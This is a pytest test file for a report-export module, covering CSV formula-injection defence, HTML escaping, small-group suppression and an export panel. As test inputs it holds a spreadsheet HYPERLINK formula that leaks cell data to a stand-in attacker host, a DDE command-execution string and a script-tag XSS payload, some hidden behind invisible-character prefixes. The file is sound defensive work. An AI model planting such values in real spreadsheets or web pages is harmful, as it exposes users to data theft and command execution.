"""Export machinery (analysis/reports: export, csv_safety, tables, figures, index_html, files; the
small-group rule of analysis/stats/small_groups.py; the panel of analysis/widgets/export_panel.py): safe
CSV, images through kaleido, standalone HTML, index.

Everything here runs on small synthetic frames and plotly.express figures, independent of the
calibration analytics. Static images are rendered once per module (one kaleido session) and shared.
"""

from __future__ import annotations

import inspect
import math
import re
import unicodedata
import struct
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import plotly.express as px
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from plotly.offline import get_plotlyjs

from analysis import config
from analysis.errors import OutputFolderError
from analysis.reports import export
from analysis.reports.csv_safety import CSV_TRIGGERS, neutralize_csv_cell, safe_csv_frame
from analysis.reports.export import write_report
from analysis.reports.figures import MissingBrowserError, write_figures
from analysis.reports.files import ExportError, files_table, format_size, parse_formats
from analysis.reports.index_html import write_index_html
from analysis.reports.tables import write_tables
from analysis.stats.small_groups import mark_small_groups, suppress_small_interviewers
from analysis.widgets.export_panel import ExportPanel

XSS = "<script>alert(1)</script>"
XSS_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


# ------------------------------------------------------------------------------------- helpers

class _Tags(HTMLParser):
    """Collects every start tag with its attributes; raises on nothing (html.parser is lenient),
    so the checks below are about what the browser would load."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def parse_html(path: Path) -> _Tags:
    p = _Tags()
    p.feed(path.read_text(encoding="utf-8"))
    p.close()
    return p


def external_refs(tags: _Tags) -> list[tuple[str, str, str]]:
    """Every attribute through which a page would fetch something: script/iframe/img/embed src,
    link href, object data. Anchors (<a href>) are clicks, not loads, and are not listed."""
    out = []
    for tag, attrs in tags.tags:
        for attr in ("src", "href", "data"):
            if attr in attrs and tag in ("script", "iframe", "img", "embed", "link", "object",
                                         "source", "video", "audio", "frame"):
                out.append((tag, attr, attrs[attr]))
    return out


def png_size(data: bytes) -> tuple[int, int]:
    """Width and height from the IHDR chunk (PNG spec 11.2.2: bytes 16-24, big-endian)."""
    assert data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


PLOTLYJS_MARK = get_plotlyjs()[:300]


# ------------------------------------------------------------------------------- CSV injection

@pytest.mark.parametrize("cell", [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+A1", "-1+2", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "-", "+", "=", "@", "-cmd|' /C calc'!A0",
])
def test_neutralize_prefixes_a_quote_to_formula_text(cell):
    assert neutralize_csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["hello", "", "a=b", "'already", "1+1", "Zoë", " ", "\u200b", " -3", "x =1"])
def test_neutralize_leaves_harmless_text(cell):
    assert neutralize_csv_cell(cell) == cell


@pytest.mark.parametrize("cell", [-0.25, -3, 0, 2.5, True, np.float64(-1.5), np.int64(-7)])
def test_neutralize_leaves_numbers(cell):
    assert neutralize_csv_cell(cell) is cell


@pytest.mark.parametrize("cell", ["-0.25", "+3", "-1e-3", ".5"])
def test_neutralize_leaves_plain_numbers_written_as_text(cell):
    # a spreadsheet reads these as the number itself; they cannot hold a formula
    assert neutralize_csv_cell(cell) == cell


# Issue 10: the check used to look only at the first character, so these passed through.
@pytest.mark.parametrize("cell", [
    ' =HYPERLINK("http://evil.example/?"&A1,"click")', "\n=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff@SUM(A1)",
    "  \u3000+A1", "\u2028-1+2", "\x0b=1", "\x1f=1", "\uff1d1+1", " \t=1", "\r\n-cmd|' /C calc'!A0", "\u00a0-3",
])
def test_neutralize_looks_past_leading_whitespace_and_invisible_characters(cell):
    assert neutralize_csv_cell(cell) == "'" + cell


_INVISIBLE = st.sampled_from([" ", "\t", "\n", "\r", "\x0b", "\x0c", "\u00a0", "\u200b", "\u200c", "\u200d",
                              "\u2060", "\ufeff", "\u3000", "\u2028", "\u2029", "\x00", "\x1f", "\x85"])


@settings(max_examples=400, deadline=None)
@given(prefix=st.lists(_INVISIBLE, max_size=5).map("".join), trigger=st.sampled_from(["=", "+", "-", "@", "\uff1d"]),
       rest=st.text(max_size=20))
def test_property_any_invisible_prefix_before_a_trigger_is_neutralized(prefix, trigger, rest):
    cell = prefix + trigger + rest
    out = neutralize_csv_cell(cell)
    if out == cell:  # only a number may pass: a plain number, possibly after ASCII spaces
        assert prefix.strip(" ") == "" and re.fullmatch(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?",
                                                        trigger + rest)
    else:
        assert out == "'" + cell


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=30))
def test_property_neutralize_only_ever_prefixes_a_quote_and_is_idempotent(cell):
    out = neutralize_csv_cell(cell)
    assert out in (cell, "'" + cell)
    assert neutralize_csv_cell(out) == out  # a quoted cell starts with ' and is left alone
    invisible = [ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs", "Zl", "Zp") for ch in cell]
    visible = cell[invisible.index(False):] if False in invisible else ""
    if out == cell and visible:  # left alone: no formula start after the invisible prefix, or a number
        assert unicodedata.normalize("NFKC", visible[0])[:1] not in "=+@-" or re.fullmatch(r" *[+-][\d.eE+-]+", cell)


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans()))
def test_property_numbers_stay_numbers(number):
    assert neutralize_csv_cell(number) is number


def test_neutralize_nan_unchanged():
    assert math.isnan(neutralize_csv_cell(float("nan")))


@pytest.fixture
def hostile() -> pd.DataFrame:
    return pd.DataFrame({
        "name": ["=1+1", "+A1", "-1+2", "@SUM(A1)", "\tx", "\rx", "plain", XSS],
        "delta": [-0.25, 1.5, -3.0, 0.0, 2.0, -1e-9, np.nan, 4.0],
        "n": [-1, 2, 3, 4, 5, 6, 7, 8],
        "level": pd.Categorical(["-junior", "mid", "-junior", "mid", "mid", "mid", "mid", "mid"]),
        "flag": [True, False] * 4,
        "=cmd": ["a"] * 8,
    })


def test_safe_csv_frame_keeps_numeric_dtypes_and_values(hostile):
    safe = safe_csv_frame(hostile)
    pd.testing.assert_series_equal(safe["delta"], hostile["delta"])
    pd.testing.assert_series_equal(safe["n"], hostile["n"])
    pd.testing.assert_series_equal(safe["flag"], hostile["flag"])
    assert list(safe["level"].cat.categories) == ["'-junior", "mid"]
    assert list(safe.columns) == ["name", "delta", "n", "level", "flag", "'=cmd"]
    assert hostile.columns[-1] == "=cmd", "the input frame must not be modified"


def test_written_csv_reads_back_neutralized_and_numeric(hostile, tmp_path):
    [path] = write_tables({"hostile": hostile}, tmp_path)
    assert path == tmp_path / "hostile.csv"
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf"), "UTF-8 without BOM"
    back = pd.read_csv(path, keep_default_na=True)
    assert list(back.columns) == ["name", "delta", "n", "level", "flag", "'=cmd"]
    assert back["name"].tolist() == ["'=1+1", "'+A1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx",
                                     "plain", XSS]
    # numbers stay numbers: float and int dtypes, negative values intact
    assert back["delta"].dtype == np.float64 and back["n"].dtype == np.int64
    np.testing.assert_array_equal(back["delta"].to_numpy(), hostile["delta"].to_numpy())
    assert back["n"].tolist() == hostile["n"].tolist()
    assert back["level"].tolist()[0] == "'-junior"
    # no text cell of the file, once parsed, starts with a trigger character
    for col in back.select_dtypes(exclude="number"):
        for v in back[col].dropna().astype(str):
            assert v[:1] not in CSV_TRIGGERS, (col, v)


def test_write_tables_index_written_only_when_named(tmp_path):
    named = pd.DataFrame({"auc": [0.5, 0.7]}, index=pd.Index(["q1", "q2"], name="question_id"))
    unnamed = pd.DataFrame({"auc": [0.5, 0.7]}, index=[10, 11])
    p1, p2 = write_tables({"named": named, "unnamed": unnamed}, tmp_path)
    assert p1.read_text().splitlines() == ["question_id,auc", "q1,0.5", "q2,0.7"]
    assert p2.read_text().splitlines() == ["auc", "0.5", "0.7"]


def test_write_tables_utf8_round_trip(tmp_path):
    df = pd.DataFrame({"interviewer": ["Zoë", "Øyvind", "李"], "n": [1, 2, 3]})
    [p] = write_tables({"people": df}, tmp_path)
    assert "Zoë" in p.read_text(encoding="utf-8")
    pd.testing.assert_frame_equal(pd.read_csv(p, encoding="utf-8"), df, check_dtype=False)


@pytest.mark.parametrize("name", ["../escape", "a/b", "", ".hidden", "-x", "a b", "x" * 101])
def test_unsafe_table_names_refused(name, tmp_path):
    out = tmp_path / "out"
    with pytest.raises(ExportError, match="not a safe file name"):
        write_tables({name: pd.DataFrame({"a": [1]})}, out)
    assert not any(tmp_path.rglob("*.csv"))


@pytest.mark.parametrize("col", ["candidate_id", "notes", "Notes "])
def test_identifying_columns_refused_unless_allowed(col, tmp_path):
    df = pd.DataFrame({col: ["C1"], "score": [3]})
    with pytest.raises(ExportError, match="identifying column"):
        write_tables({"t": df}, tmp_path)
    assert not (tmp_path / "t.csv").exists()
    [p] = write_tables({"t": df}, tmp_path, allow_private=True)
    assert p.exists()


def test_identifying_index_refused(tmp_path):
    df = pd.DataFrame({"score": [3]}, index=pd.Index(["C1"], name="candidate_id"))
    with pytest.raises(ExportError, match="candidate_id"):
        write_tables({"t": df}, tmp_path)


# ------------------------------------------------------------------------------- small groups

def test_mark_small_groups_blanks_rates_below_small_group():
    df = pd.DataFrame({"interviewer": ["A", "B", "C", "D"], "n_interviews": [4, 5, 200, np.nan],
                       "pass_rate": [0.25, 0.4, 0.51, 0.3], "severity": [0.1, -0.2, 0.0, 0.3]})
    out = mark_small_groups(df, "n_interviews", ["pass_rate"], small_group=5)
    # by hand: A has 4 < 5 interviews, D has no count -> both blanked; B (exactly 5) and C kept
    assert out["small_group"].tolist() == [True, False, False, True]
    assert out["small_group"].dtype == bool
    assert np.isnan(out.loc[0, "pass_rate"]) and np.isnan(out.loc[3, "pass_rate"])
    assert out["pass_rate"].tolist()[1:3] == [0.4, 0.51]
    assert out["severity"].tolist() == df["severity"].tolist(), "columns not named are kept"
    assert out["n_interviews"].tolist()[:3] == [4, 5, 200], "counts are kept"
    assert "small_group" not in df.columns


def test_mark_small_groups_string_rate_and_small_group():
    df = pd.DataFrame({"n": [9, 10], "rate": [0.1, 0.2]})
    out = mark_small_groups(df, "n", "rate", small_group=10)
    assert out["small_group"].tolist() == [True, False]


def test_mark_small_groups_missing_column_named():
    with pytest.raises(KeyError, match="pass_rat"):
        mark_small_groups(pd.DataFrame({"n": [1]}), "n", ["pass_rat"])


def test_small_group_rate_written_as_empty_cell(tmp_path):
    df = mark_small_groups(pd.DataFrame({"topic": ["cost", "data"], "n": [3, 40],
                                         "auc": [0.9, 0.62]}), "n", "auc")
    [p] = write_tables({"topic_stats": df}, tmp_path)
    assert p.read_text().splitlines() == ["topic,n,auc,small_group", "cost,3,,True",
                                          "data,40,0.62,False"]


def test_small_group_floor_defaults_to_config(tmp_path):
    for fn in (mark_small_groups, suppress_small_interviewers):
        assert inspect.signature(fn).parameters["small_group"].default == config.SMALL_GROUP == 5
    df = pd.DataFrame({"n": [4, 5], "rate": [0.1, 0.2]})
    assert mark_small_groups(df, "n", "rate")["small_group"].tolist() == [True, False]
    ivs = pd.DataFrame({"interviewer": ["a", "b"], "n_interviews": [7, 12], "pass_rate": [0.4, 0.5],
                        "funnel_flag": ["low", ""]})
    out = suppress_small_interviewers(ivs, small_group=10)
    assert out["small_group"].tolist() == [True, False]
    assert np.isnan(out.loc[0, "pass_rate"]) and out["funnel_flag"].tolist() == ["", ""]


def test_export_module_is_the_writer_interface():
    """Callers import the writers from analysis.reports.export; each name is the one object of its
    module of one topic."""
    from analysis.reports import csv_safety, figures, files, index_html, tables
    from analysis.stats import small_groups
    homes = (csv_safety, figures, files, index_html, tables, small_groups, config)
    for name in export.__all__:
        value = getattr(export, name)
        if name != "write_report":
            assert any(getattr(m, name, None) is value for m in homes), name
    assert export.SMALL_GROUP == config.SMALL_GROUP
    assert export._atomic_write is files.write_file


# -------------------------------------------------------------------------------------- formats

def test_parse_formats():
    assert parse_formats("png, SVG,.pdf,png") == ("png", "svg", "pdf")
    assert parse_formats(["csv"]) == ("csv",)
    with pytest.raises(ExportError, match="unknown format 'gif'"):
        parse_formats("png,gif")
    with pytest.raises(ExportError, match="no format"):
        parse_formats(" , ")


# ------------------------------------------------------------------------------------- figures

def _figures() -> dict:
    df = pd.DataFrame({"q": ["a", "b", "c"], "d": [0.3, -0.1, 0.5], "lvl": ["junior", "mid", "senior"]})
    sized = px.bar(df, x="q", y="d", color="lvl", title="Sized chart")
    sized.update_layout(width=640, height=360)
    themed = px.scatter(df, x="d", y="q", title=f"Title with {XSS}")  # no size: theme default
    return {"sized": sized, "themed": themed}


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """One write_figures call (one kaleido session) for png, svg, pdf and html at scale 2."""
    out = tmp_path_factory.mktemp("figures")
    paths = write_figures(_figures(), out, ("png", "svg", "pdf", "html"), scale=2, progress=False)
    return out, paths


def test_write_figures_returns_every_file(rendered):
    out, paths = rendered
    expected = {f"{n}.{f}" for n in ("sized", "themed") for f in ("png", "svg", "pdf", "html")}
    assert {p.name for p in paths} == expected | {"plotly.min.js"}     # one shared copy of plotly.js
    assert all(p.parent == out and p.stat().st_size > 0 for p in paths)
    assert not list(out.glob("*.part")) and not list(out.glob(".*")), "no temporary files left"


def test_png_signature_and_size_from_ihdr(rendered):
    out, _ = rendered
    from analysis.charts.theme import defaults
    sized, themed = (out / "sized.png").read_bytes(), (out / "themed.png").read_bytes()
    assert sized[:8] == b"\x89PNG\r\n\x1a\n" and themed[:8] == b"\x89PNG\r\n\x1a\n"
    assert png_size(sized) == (640 * 2, 360 * 2)  # the figure's own layout size, times scale
    assert png_size(themed) == (defaults.width * 2, defaults.height * 2)  # theme default size


def test_svg_is_svg_of_the_layout_size(rendered):
    out, _ = rendered
    root = ET.fromstring((out / "sized.svg").read_bytes())
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    # drawn in layout units (viewBox), displayed at layout size times scale
    assert root.get("viewBox") == "0 0 640 360"
    assert (float(root.get("width")), float(root.get("height"))) == (1280, 720)


def test_pdf_signature(rendered):
    out, _ = rendered
    for name in ("sized", "themed"):
        data = (out / f"{name}.pdf").read_bytes()
        assert data.startswith(b"%PDF-"), name
        assert data.rstrip().endswith(b"%%EOF"), name
    # page size in points: 1280 x 720 CSS px (640 x 360 at scale 2) x 0.75 pt/px (CSS: 96 px = 72 pt)
    assert b"/MediaBox [0 0 960 540]" in (out / "sized.pdf").read_bytes()


def test_chart_pages_share_one_plotlyjs_beside_them(rendered):
    out, _ = rendered
    from plotly.offline import get_plotlyjs
    assert (out / "plotly.min.js").read_text(encoding="utf-8") == get_plotlyjs()
    for name in ("sized", "themed"):
        path = out / f"{name}.html"
        tags = parse_html(path)
        # the only load is the shared file, relative, in the same folder (works offline)
        assert [r[2] for r in external_refs(tags)] == ["plotly.min.js"], name
        text = path.read_text(encoding="utf-8")
        assert PLOTLYJS_MARK not in text and path.stat().st_size < 200_000
        assert f'id="chart-{name}"' in text
        assert XSS not in text, "figure text is JSON-escaped by plotly"


def test_standalone_chart_pages_on_request(tmp_path):
    paths = write_figures(_figures(), tmp_path, ("html",), progress=False, shared_plotlyjs=False)
    assert sorted(p.name for p in paths) == ["sized.html", "themed.html"]
    for p in paths:
        assert external_refs(parse_html(p)) == [] and p.read_text(encoding="utf-8").count(PLOTLYJS_MARK) == 1


def test_unsafe_figure_name_refused(tmp_path):
    with pytest.raises(ExportError, match="not a safe file name"):
        write_figures({"../x": _figures()["sized"]}, tmp_path, ("html",), progress=False)
    assert not list(tmp_path.parent.glob("x.html"))


def test_missing_browser_is_a_clear_error(tmp_path, monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-such-chromium"))
    with pytest.raises(ExportError, match="need Chromium.*csv and html formats work without it"):
        write_figures({"sized": _figures()["sized"]}, tmp_path, ("png",), progress=False)
    assert not (tmp_path / "sized.png").exists()


# ---------------------------------------------------------------------------------- index.html

@pytest.fixture
def index(tmp_path) -> Path:
    figures = _figures()
    tables = {
        "question_stats": pd.DataFrame({"question_id": ["q1", XSS], "n": [40, 3],
                                        "discrimination": [0.312345, np.nan]}),
        "weird": pd.DataFrame({XSS: ["a & b", "\"quoted\" 'x'"]}),
    }
    return write_index_html(
        tmp_path, figures, tables, title=f"Report {XSS}",
        meta={"Data period": (pd.Timestamp("2025-01-06"), pd.Timestamp("2026-03-30")),
              "Interviews": 1234, "Criterion": XSS, XSS: "key escaped too"},
        guides={"sized": f"Look at the tallest bar {XSS}", "question_stats": "Rows = questions"},
        notes=[f"note {XSS}", "small groups are blank"])


def test_index_is_one_self_contained_file(index):
    tags = parse_html(index)
    assert external_refs(tags) == []
    text = index.read_text(encoding="utf-8")
    scripts = [a for t, a in tags.tags if t == "script"]
    # the packed plotly.js with its loader + one per figure, none with src (and none smuggled in by text)
    assert len(scripts) == 1 + 2
    # plotly.js is inside, gzip-compressed once: unpack it as the browser does
    import base64
    import gzip
    import re as _re
    (packed,) = _re.findall(r'var b64="([A-Za-z0-9+/=]+)"', text)
    assert gzip.decompress(base64.b64decode(packed)).decode("utf-8") == get_plotlyjs()
    assert index.stat().st_size < 2_300_000                         # 4.8 MB of plotly.js as 2 MB
    assert not any("src" in a for a in scripts)
    assert not any(t in ("iframe", "link", "img") for t, _ in tags.tags)
    divs = [a.get("id") for t, a in tags.tags if t == "div" and a.get("class") == "plotly-graph-div"]
    assert divs == ["chart-sized", "chart-themed"]


def test_index_escapes_every_user_text(index):
    text = index.read_text(encoding="utf-8")
    assert XSS not in text
    # title (twice: <title> and <h1>), meta key and value, guide, note, table cell, table header
    assert text.count(XSS_ESCAPED) >= 7
    assert "a &amp; b" in text and "&quot;quoted&quot; &#x27;x&#x27;" in text
    parsed = "".join(parse_html(index).text)
    assert f"Report {XSS}" in parsed  # what the reader sees is the literal text


def test_index_shows_meta_guides_tables(index):
    parsed = " ".join(parse_html(index).text)
    assert "2025-01-06 to 2026-03-30" in parsed
    assert "1,234" in parsed
    assert "Look at the tallest bar" in parsed and "Rows = questions" in parsed
    assert "0.31" in parsed and "0.312" not in parsed  # 2 decimals in HTML (the CSV keeps more)
    assert "small groups are blank" in parsed
    tags = parse_html(index)
    ids = [a.get("id") for t, a in tags.tags if t == "table"]
    assert ids == ["table-question_stats", "table-weird"]


# ------------------------------------------------------------------------- report and summary

def test_write_report_csv_only_writes_tables_without_figures(tmp_path):
    df = pd.DataFrame({"topic": ["cost"], "n": [12], "auc": [0.71]})
    paths = write_report(tmp_path, tables={"topic_stats": df}, formats="csv", progress=False)
    assert paths == [tmp_path / "topic_stats.csv"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["topic_stats.csv"]


def test_write_report_html_writes_pages_and_index(tmp_path):
    df = pd.DataFrame({"topic": ["cost"], "n": [12], "auc": [0.71]})
    figs = {"topics": px.bar(df, x="topic", y="auc")}
    paths = write_report(tmp_path, tables={"topic_stats": df}, figures=figs,
                         formats=["csv", "html"], meta={"Interviews": 12}, progress=False)
    assert [p.name for p in paths] == ["topic_stats.csv", "topics.html", "plotly.min.js", "index.html"]
    summary = files_table(paths, tmp_path)
    assert summary.columns.tolist() == ["file", "format", "bytes", "size"]
    assert summary["file"].tolist() == ["topic_stats.csv", "topics.html", "plotly.min.js", "index.html"]
    assert summary["format"].tolist() == ["csv", "html", "js", "html"]
    assert summary["bytes"].tolist() == [p.stat().st_size for p in paths]


@pytest.mark.parametrize("n, text", [(0, "0 B"), (999, "999 B"), (1536, "1.5 kB"),
                                     (4_823_681, "4.8 MB"), (2 * 10**9, "2.0 GB")])
def test_format_size(n, text):
    assert format_size(n) == text


def test_images_render_inside_a_running_event_loop(tmp_path):
    """Jupyter runs an asyncio loop in the kernel's main thread; kaleido must still work there."""
    import asyncio

    async def inside_loop():
        return write_figures({"sized": _figures()["sized"]}, tmp_path, ("png",), progress=False)

    [p] = asyncio.run(inside_loop())
    assert p.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# --------------------------------------------------------------------------------- ExportPanel

@pytest.fixture
def panel_parts():
    figs = _figures()
    tables = {"topic_stats": pd.DataFrame({"topic": ["cost", "=evil"], "n": [12, 40],
                                           "auc": [0.71, -0.2]})}
    return figs, tables


def _panel(figs, tables, out, formats=("csv", "html")):
    return ExportPanel(lambda: figs, lambda: tables, out=out, formats=formats,
                              meta=lambda: {"Interviews": 52})


def test_panel_exports_the_chosen_charts_and_formats(panel_parts, tmp_path):
    figs, tables = panel_parts
    panel = _panel(figs, tables, tmp_path / "out")
    assert panel._charts.options == ("sized", "themed") and panel.selected_charts == ("sized", "themed")
    assert panel.selected_formats == ("csv", "html")
    panel._charts.value = ("themed",)
    panel._button.click()
    assert panel.last_error is None
    out = tmp_path / "out"
    assert sorted(p.name for p in out.iterdir()) == ["index.html", "plotly.min.js", "themed.html", "topic_stats.csv"]
    assert panel.last_paths == [out / "topic_stats.csv", out / "themed.html", out / "plotly.min.js",
                                out / "index.html"]
    assert "wrote 4 files" in panel._status.value
    for name in ("topic_stats.csv", "themed.html", "index.html"):
        assert name in panel._files.value
    assert "'=evil" in (out / "topic_stats.csv").read_text()
    index = (out / "index.html").read_text()
    assert 'id="chart-themed"' in index and 'id="chart-sized"' not in index
    assert "52" in index  # meta read at click time


def test_panel_exports_what_is_shown_at_click_time(panel_parts, tmp_path):
    figs, tables = panel_parts
    panel = _panel(figs, tables, tmp_path)
    panel._formats["html"].value = False
    tables["topic_stats"] = tables["topic_stats"].iloc[:1]  # the explorer filtered the table
    panel._button.click()
    assert (tmp_path / "topic_stats.csv").read_text().splitlines() == ["topic,n,auc", "cost,12,0.71"]


def test_panel_without_format_refuses_and_says_why(panel_parts, tmp_path):
    figs, tables = panel_parts
    panel = _panel(figs, tables, tmp_path / "out")
    for box in panel._formats.values():
        box.value = False
    assert panel._button.disabled
    assert "choose at least one format" in panel._status.value
    panel._button.click()  # a click that slips through still writes nothing
    assert not (tmp_path / "out").exists()


def test_panel_shows_errors_in_the_form(tmp_path):
    figs = _figures()
    private = {"people": pd.DataFrame({"candidate_id": ["C1"], "notes": [XSS]})}
    panel = ExportPanel(figs, private, out=tmp_path, formats=["csv"])
    panel._button.click()
    assert isinstance(panel.last_error, ExportError)
    assert "export failed: ExportError" in panel._status.value
    assert "identifying column" in panel._status.value
    assert not panel._button.disabled, "the form stays usable after an error"
    assert not list(tmp_path.iterdir())


def test_panel_escapes_folder_and_error_text(tmp_path):
    figs = _figures()
    panel = ExportPanel(figs, {XSS: pd.DataFrame({"a": [1]})}, out=tmp_path, formats=["csv"])
    panel._button.click()
    assert XSS not in panel._status.value and XSS_ESCAPED in panel._status.value


def test_panel_refresh_follows_the_chart_names(tmp_path):
    figs = dict(_figures())
    panel = ExportPanel(lambda: figs, out=tmp_path, formats=["html"])
    panel._charts.value = ("themed",)
    figs["extra"] = figs["sized"]
    del figs["sized"]
    panel.refresh()
    assert panel._charts.options == ("themed", "extra")
    assert panel.selected_charts == ("themed",)


def test_files_get_ordinary_permissions(tmp_path):
    """Atomic writes go through mkstemp (mode 0600); the result must be readable like any file."""
    import os
    import stat
    mask = os.umask(0o022)
    os.umask(mask)
    [p] = write_tables({"t": pd.DataFrame({"a": [1]})}, tmp_path)
    assert stat.S_IMODE(p.stat().st_mode) == 0o666 & ~mask


class _FakeExplorer:
    """Stands in for the calibration explorer: figures, tables and meta that change."""

    def __init__(self):
        self.figures = _figures()
        self.tables = {"topic_stats": pd.DataFrame({"topic": ["cost"], "n": [12]})}
        self.meta = {"Candidate level": "all"}


def test_panel_following_an_explorer_exports_its_current_slice(tmp_path):
    explorer = _FakeExplorer()
    panel = ExportPanel.following(explorer, out=tmp_path, formats=["html"])
    explorer.meta = {"Candidate level": "senior"}
    explorer.figures = {"themed": explorer.figures["themed"]}
    panel._button.click()
    assert panel.last_error is None
    assert sorted(p.name for p in tmp_path.iterdir()) == ["index.html", "plotly.min.js", "themed.html"]
    assert "senior" in (tmp_path / "index.html").read_text()


def test_panel_with_nothing_to_export_says_so(tmp_path):
    explorer = _FakeExplorer()
    panel = ExportPanel.following(explorer, out=tmp_path / "out", formats=["html", "csv"])
    explorer.figures, explorer.tables = {}, {}  # the explorer failed on this slice
    panel._button.click()
    assert isinstance(panel.last_error, ExportError)
    assert "nothing to export" in panel._status.value
    assert not (tmp_path / "out").exists()


def test_panel_refuses_an_output_folder_inside_the_data_folder(panel_parts, tmp_path):
    """The panel's folder goes through analysis.io.folder.output_folder, like every --out."""
    figs, tables = panel_parts
    data = tmp_path / "data"
    (data / "scores").mkdir(parents=True)
    for out in (data, data / "scores", data / "reports"):
        panel = ExportPanel(lambda: figs, lambda: tables, out=out, formats=["csv"], data=data)
        panel._button.click()
        assert isinstance(panel.last_error, OutputFolderError), out
        assert "inside the data folder" in panel._status.value and "export failed" in panel._status.value
        assert panel.last_paths == [] and not panel._button.disabled
    assert sorted(p.name for p in data.rglob("*")) == ["scores"], "nothing written into the data folder"
    panel = ExportPanel(lambda: figs, lambda: tables, out=tmp_path / "out", formats=["csv"], data=data)
    panel._button.click()
    assert panel.last_error is None and (tmp_path / "out" / "topic_stats.csv").is_file()


def test_panel_default_data_folder_is_the_configured_one(panel_parts, tmp_path, monkeypatch):
    figs, tables = panel_parts
    monkeypatch.setenv("INTERVIEW_DATA", str(tmp_path))
    panel = ExportPanel(lambda: figs, lambda: tables, out=tmp_path / "reports", formats=["csv"])
    panel._button.click()
    assert isinstance(panel.last_error, OutputFolderError)
    assert not (tmp_path / "reports").exists()


def test_panel_following_guards_the_workbooks_data_folder(tmp_path):
    explorer = _FakeExplorer()
    explorer.workbook = SimpleNamespace(data=tmp_path / "data")
    panel = ExportPanel.following(explorer, out=tmp_path / "data" / "out", formats=["csv"])
    assert panel.data == tmp_path / "data"
    panel._button.click()
    assert isinstance(panel.last_error, OutputFolderError)
    assert not (tmp_path / "data").exists()


def test_multiindex_headers_neutralized(tmp_path):
    df = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("=a", "x"), ("b", "@y")]))
    assert safe_csv_frame(df).columns.tolist() == [("'=a", "x"), ("b", "'@y")]
    [p] = write_tables({"multi": df}, tmp_path)
    assert p.read_text().splitlines()[:2] == ["'=a,b", "x,'@y"]


def test_render_failure_names_the_file(tmp_path):
    # a 1 ms budget per image: kaleido gives up, and the error says which file it was
    with pytest.raises(ExportError, match=r"could not render sized\.png with kaleido"):
        write_figures({"sized": _figures()["sized"]}, tmp_path, ("png",), progress=False,
                      timeout=0.001)
    assert not (tmp_path / "sized.png").exists()


def test_tables_only_index_has_no_plotlyjs(tmp_path):
    page = write_index_html(tmp_path, {}, {"t": pd.DataFrame({"a": [1]})}, title="Tables")
    tags = parse_html(page)
    assert [t for t, _ in tags.tags if t == "script"] == []
    assert page.stat().st_size < 10_000
    assert "Table: t" in "".join(tags.text)


def test_panel_picks_up_charts_that_appear_after_it_was_built(tmp_path):
    explorer = _FakeExplorer()
    explorer.figures = {}  # the explorer failed when the panel was built
    panel = ExportPanel.following(explorer, out=tmp_path, formats=["html"])
    assert panel._charts.options == ()
    explorer.figures = _figures()  # ... and recovered
    assert not panel._button.disabled
    panel._button.click()
    assert panel.last_error is None
    assert panel._charts.options == ("sized", "themed")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["index.html", "plotly.min.js", "sized.html", "themed.html"]


def test_index_plain_plotlyjs_on_request(tmp_path):
    page = write_index_html(tmp_path, _figures(), {}, title="t", compress_plotlyjs=False)
    assert page.read_text(encoding="utf-8").count(PLOTLYJS_MARK) == 1


def test_index_shows_only_the_columns_a_reader_needs(tmp_path):
    df = pd.DataFrame({"question_id": ["q1"], "n": [40], "discrimination": [0.312345], "sd": [0.77777]})
    page = write_index_html(tmp_path, {}, {"question_stats": df}, title="t",
                            columns={"question_stats": ["question_id", "discrimination", "not_there"]})
    tags = parse_html(page)
    parsed = " ".join(tags.text)
    assert "0.31" in parsed and "0.78" not in parsed and "2 of 4 columns shown" in parsed


def test_no_browser_still_writes_tables_pages_and_index(tmp_path, monkeypatch):
    """Without Chromium: everything that needs no browser is written, then a MissingBrowserError
    lists it, names the skipped formats and says how to get a browser."""
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-such-chromium"))
    df = pd.DataFrame({"topic": ["cost"], "n": [12], "auc": [0.71]})
    out = tmp_path / "r"
    with pytest.raises(MissingBrowserError, match="chromium.*kaleido_get_chrome") as info:
        write_report(out, tables={"topic_stats": df}, figures=_figures(), progress=False)
    written = sorted(p.name for p in info.value.paths)
    assert written == sorted(["topic_stats.csv", "sized.html", "themed.html", "plotly.min.js", "index.html"])
    assert all(p.exists() for p in info.value.paths)
    assert info.value.skipped == ("png", "svg", "pdf")
    assert not list(out.glob("*.png"))


def test_write_report_pngs_default_to_twice_the_size(tmp_path):
    paths = write_report(tmp_path, figures={"sized": _figures()["sized"]}, formats="png", progress=False)
    assert png_size(paths[0].read_bytes()) == (640 * 2, 360 * 2)


def test_round_table_to_what_each_column_means(tmp_path):
    df = pd.DataFrame({"discrimination": [0.5064935064935064, -0.000656], "n": [40, 3],
                       "p_value": [0.000123456, 0.5064935], "topic": ["cost", "=x"]})
    (path,) = write_tables({"t": df}, tmp_path, digits=3)
    back = pd.read_csv(path)
    assert back["discrimination"].tolist() == [0.506, -0.001]
    assert back["p_value"].tolist() == [0.000123, 0.506]          # 3 significant digits
    assert back["n"].tolist() == [40, 3] and back["topic"].tolist() == ["cost", "'=x"]


